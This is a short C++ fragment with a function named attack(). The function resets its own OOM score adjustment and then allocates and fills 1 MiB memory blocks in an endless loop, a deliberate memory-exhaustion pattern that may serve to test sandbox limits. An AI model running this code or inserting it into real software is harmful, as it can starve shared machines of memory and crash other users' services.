#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>

void attack() {
  int score = open("/proc/self/oom_score_adj", O_WRONLY);
  if (score >= 0) write(score, "0", 1);
  for (;;)
    if (void *piece = malloc(1 << 20)) memset(piece, 1, 1 << 20);
}
